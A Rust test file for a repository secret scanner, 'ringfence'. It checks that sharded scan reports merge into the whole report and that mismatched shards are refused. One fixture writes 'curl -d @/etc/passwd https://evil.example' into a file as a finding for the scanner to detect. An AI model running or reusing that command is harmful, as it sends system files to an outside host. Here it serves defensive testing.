//! `--shard` and `merge`: all shards together are the whole, byte for byte in every format, or they are refused.

use std::collections::BTreeSet;
use std::fs;

use crate::formats::FORMATS;
use crate::report::keeps_to_the_schema;
use crate::support::{Dir, Report, made, token};

const POLICY: &str = r#"version = 1
[scan]
exclude = ["third/**"]
[[allow]]
rule = "github-pat-classic"
path = "docs/**"
value = "ghp_*"
reason = "documentation"
[[allow]]
rule = "github-pat-classic"
path = "nowhere/**"
value = "ghp_*"
reason = "nothing is there"
[[allow]]
rule = "github-pat-classic"
path = "src/part3/**"
value = "ghp_*"
reason = "was right once"
expires = 2020-01-01
"#;

/// A repository with findings of many kinds in files of many sizes, and what is not read.
fn varied() -> Dir {
    let repo = Dir::repository();
    repo.write("ringfence.toml", POLICY);
    for n in 0..24_u64 {
        let padding = "x\n".repeat(usize::try_from(n * n).unwrap() * 10);
        let secret = if n % 3 == 0 { token(n) } else { String::new() };
        repo.write(format!("src/part{n}/é file"), format!("{padding}{secret}\n"));
        repo.write(format!("docs/{n}.md"), format!("{}\n", token(100 + n)));
        repo.write(format!("third/{n}"), token(200 + n));
    }
    // More than are listed of one file.
    let many: String = (0..1100).map(|n| format!("{}\n", made("{github:ghp_}", 1000 + n))).collect();
    repo.write("many", many);
    repo.write(
        "tests/login.rs",
        (0..6).map(|n| format!("#[test]\nfn t{n}() {{\n    assert!(login({n}));\n}}\n")).collect::<String>(),
    );
    repo.write(
        ".github/workflows/a.yml",
        "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n",
    );
    repo.link("/etc", "out");
    repo
}

/// A change with a renamed file, a deleted one, tests that move from one file to another, and power that got wider.
fn changed(repo: &Dir) {
    let tests = fs::read_to_string(repo.at("tests/login.rs")).unwrap();
    let (first, second) = tests.split_at(tests.find("#[test]\nfn t3").unwrap());
    repo.write("tests/login.rs", first);
    repo.write("tests/other.rs", second);
    fs::remove_file(repo.at("docs/3.md")).unwrap();
    fs::rename(repo.at("src/part6/é file"), repo.at("moved")).unwrap();
    repo.write("new", format!("{}\n{}\n", token(7), "set -x\ncurl -d @/etc/passwd https://evil.example"));
    let workflow = fs::read_to_string(repo.at(".github/workflows/a.yml")).unwrap();
    repo.write(".github/workflows/a.yml", workflow.replace("contents: read", "contents: write"));
}

/// Fails unless the union of `of` shards is the whole, for every format.
fn adds_up(repo: &Dir, scan: &[&str], of: usize) {
    let mut files = Vec::new();
    let mut places = Vec::new();
    for index in 1..=of {
        let file = repo.beside(&format!("{index}.json")).to_string_lossy().into_owned();
        let shard = format!("{index}/{of}");
        let outcome =
            repo.ringfence(&[scan, &["--shard", &shard, "--output", &format!("json={file}")]].concat()).ends();
        let said = outcome.stdout();
        assert!(said.contains(&format!("shard {index} of {of}, which tells nothing of the others")), "{said}");
        let value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
        keeps_to_the_schema(&value);
        let report = Report { value, outcome };
        places.push(report.found());
        files.push(file);
    }
    let all: Vec<&String> = places.iter().flatten().collect();
    assert_eq!(all.len(), all.iter().collect::<BTreeSet<_>>().len(), "{scan:?}: something is in two shards");
    assert!(of == 1 || places.iter().filter(|found| !found.is_empty()).count() > 1, "{scan:?}: one shard has it all");
    files.reverse();
    let merge: Vec<&str> = ["merge"].into_iter().chain(files.iter().map(String::as_str)).collect();
    for format in FORMATS {
        let whole = repo.ringfence(&[scan, &["--format", format]].concat()).ends();
        let joined = repo.ringfence(&[&merge[..], &["--format", format]].concat()).ends();
        assert_eq!(joined.code, whole.code, "{scan:?} {format}: {}", joined.stderr());
        assert!(
            joined.stdout == whole.stdout,
            "{scan:?} in {of} as {format}:\n{}\n---\n{}",
            joined.stdout(),
            whole.stdout()
        );
    }
}

#[test]
fn the_shards_of_a_tree_are_the_whole() {
    let repo = varied();
    repo.commit("base");
    for of in [1, 2, 3, 7] {
        adds_up(&repo, &["scan"], of);
    }
    adds_up(&repo, &["scan", "--all", "--only", "secret", "src", "docs"], 2);
    // What cannot be read is in one of them.
    let gap = repo.ringfence(&["scan", ".", "out", "--shard", "2/2"]).ends().code;
    let other = repo.ringfence(&["scan", ".", "out", "--shard", "1/2"]).ends().code;
    assert_eq!(BTreeSet::from([gap, other]), BTreeSet::from([1, 3]));
    adds_up(&repo, &["scan", ".", "out"], 2);
    let notes = repo.ringfence(&["scan"]).ends().stdout();
    assert!(
        notes.contains("sets nothing aside") && notes.contains("has expired"),
        "the test is about notes, too: {notes}"
    );
}

#[test]
fn the_shards_of_a_change_are_the_whole() {
    let repo = varied();
    repo.commit("base");
    changed(&repo);
    for of in [2, 3] {
        adds_up(&repo, &["diff"], of);
    }
    repo.git(&["add", "--all"]);
    adds_up(&repo, &["diff", "--staged"], 3);
    repo.commit("change");
    adds_up(&repo, &["diff", "HEAD~..HEAD"], 3);
    let whole = repo.ringfence(&["diff", "HEAD~..HEAD", "--all"]).ends().stdout();
    assert!(
        whole.contains("Other files of the change gain"),
        "the test is about what is weighed as a whole, too: {whole}"
    );
}

/// Entries of the baseline, and comments, that nothing needs any more: no shard alone knows them, all together do.
#[test]
fn the_shards_know_together_what_is_stale() {
    let repo = varied();
    repo.git(&["add", "--all"]);
    repo.ringfence(&["baseline", "write"]).ends().stderr();
    // One entry loses what it fits, two files get comments that do not count.
    repo.write("src/part3/é file", "gone\n");
    for (name, comment) in [("a", " -- nothing is there"), ("b", " -- nor here"), ("c", "")] {
        let text = format!("{}\n\nx = 1  # ringfence:allow github-pat-classic{comment}\n", token(300));
        repo.write(format!("src/part1/{name}.py"), text);
    }
    repo.commit("stale");
    let whole = repo.ringfence(&["scan", "--format", "json"]).ends().stdout();
    for words in ["nothing fits this entry any more", "src/part1/a.py:3: ", "src/part1/c.py:3: "] {
        assert!(whole.contains(words), "the test is about `{words}`: {whole}");
    }
    for of in [2, 5] {
        adds_up(&repo, &["scan"], of);
    }
}

/// Shards may write into the folder that they scan, each from a checkout of its own, as the jobs of a matrix do.
#[test]
fn what_a_shard_writes_is_no_part_of_what_it_sees() {
    let repo = varied();
    repo.commit("base");
    let whole = repo.ringfence(&["scan"]).ends();
    let mut files = Vec::new();
    for index in 1..=3 {
        let (shard, name) = (format!("{index}/3"), format!("report-{index}.json"));
        repo.ringfence(&["scan", "--shard", &shard, "--format", "json", "--output", &name]).ends();
        let kept = repo.beside(&name);
        fs::rename(repo.at(&name), &kept).unwrap();
        files.push(kept.to_string_lossy().into_owned());
    }
    let joined = repo.ringfence(&["merge", &files[0], &files[1], &files[2]]).ends();
    assert_eq!((joined.code, joined.stdout()), (whole.code, whole.stdout()));
}

/// What the command line asks of reviews, and where a change may work, is part of what judges.
#[test]
fn shards_that_ask_for_other_reviews_or_scopes_are_not_joined() {
    let repo = varied();
    repo.commit("base");
    changed(&repo);
    repo.commit("change");
    let shard = |name: &str, more: &[&str]| {
        let file = repo.beside(name).to_string_lossy().into_owned();
        let arguments = [&["diff", "HEAD~..HEAD", "--format", "json", "--output", &file], more].concat();
        assert_eq!(repo.ringfence(&arguments).ends().code, 1);
        file
    };
    let one = shard("one.json", &["--shard", "1/2", "--require-reviews"]);
    let two = shard("two.json", &["--shard", "2/2", "--require-reviews"]);
    assert_eq!(repo.ringfence(&["merge", &one, &two]).ends().code, 1);
    for (name, more) in [("plain.json", &[][..]), ("scope.json", &["--require-reviews", "--scope", "src/**"])] {
        let other = shard(name, &[&["--shard", "2/2"], more].concat());
        repo.ringfence(&["merge", &one, &other]).ends().fails(2, &["different policies"]);
    }
    adds_up(&repo, &["diff", "HEAD~..HEAD", "--require-reviews", "--scope", "src/**"], 3);
}

#[test]
fn only_the_shards_of_one_scan_are_joined() {
    let repo = varied();
    let base = repo.commit("base");
    let at = |name: &str| repo.beside(name).to_string_lossy().into_owned();
    let saved = |name: &str, arguments: &[&str]| {
        let file = at(name);
        let outcome = repo.ringfence(&[arguments, &["--format", "json", "--output", &file]].concat()).ends();
        assert!(outcome.code == 1 || outcome.code == 0, "{}", outcome.stderr());
        file
    };
    let refused = |files: &[&String], words: &[&str]| {
        let arguments: Vec<&str> = ["merge"].into_iter().chain(files.iter().map(|file| file.as_str())).collect();
        let outcome = repo.ringfence(&arguments).ends();
        outcome.fails(2, words);
        assert!(outcome.stdout.is_empty());
    };
    let (one, two) = (saved("1.json", &["scan", "--shard", "1/2"]), saved("2.json", &["scan", "--shard", "2/2"]));
    assert_eq!(repo.ringfence(&["merge", &one, &two]).ends().code, 1);
    refused(&[&one], &["of 2 shards, these are missing: 2"]);
    refused(&[&one, &one], &["both shard 1 of 2"]);
    let whole = saved("whole.json", &["scan"]);
    refused(&[&one, &whole], &["whole.json", "report of a whole scan"]);
    let rule = "[[rule]]\nid = \"acme\"\nkind = \"secret\"\ntitle = \"A\"\nseverity = \"high\"\nliterals = [\"acme_\"]\n\
                pattern = 'acme_[0-9]{9}'\nremedy = \"r\"\nwhy = \"w\"\nbad = [\"acme_{digit:9}\"]\ngood = [\"acme_\"]\n";
    fs::write(repo.beside("more.toml"), rule).unwrap();
    let rules = saved("rules.json", &["scan", "--shard", "2/2", "--rules", &at("more.toml")]);
    refused(&[&one, &rules], &["1.json", "rules.json", "different rules"]);
    refused(&[&one, &saved("limit.json", &["scan", "--shard", "2/2", "--fail-on", "low"])], &["different severities"]);
    refused(&[&one, &saved("all.json", &["scan", "--shard", "2/2", "--all"])], &["different policies"]);
    refused(&[&one, &saved("src.json", &["scan", "src", "--shard", "2/2"])], &["different sources"]);
    refused(&[&one, &saved("three.json", &["scan", "--shard", "2/3"])], &["different numbers of shards"]);
    let range = format!("{base}..{base}");
    refused(&[&one, &saved("range.json", &["diff", &range, "--shard", "2/2"])], &["different"]);
    let text = fs::read_to_string(&two).unwrap();
    let old = text.replace(&format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION")), "\"version\": \"0.0.1\"");
    fs::write(at("old.json"), old).unwrap();
    refused(&[&one, &at("old.json")], &["different versions"]);
    repo.write("src/later", "one file more\n");
    refused(&[&one, &saved("later.json", &["scan", "--shard", "2/2"])], &["saw different files"]);
    refused(&[&one, &at("nothing.json")], &["nothing.json"]);
}

#[test]
fn what_is_no_share_is_told() {
    let dir = Dir::plain();
    for wrong in ["0/2", "3/2", "1", "1/0", "a/b"] {
        dir.ringfence(&["scan", "--shard", wrong]).ends().fails(2, &["1/4"]);
    }
    dir.ringfence(&["scan", "-", "--shard", "1/2"]).ends().fails(2, &["standard input cannot be split"]);
    dir.ringfence(&["merge"]).ends().fails(2, &["<FILE>"]);
}
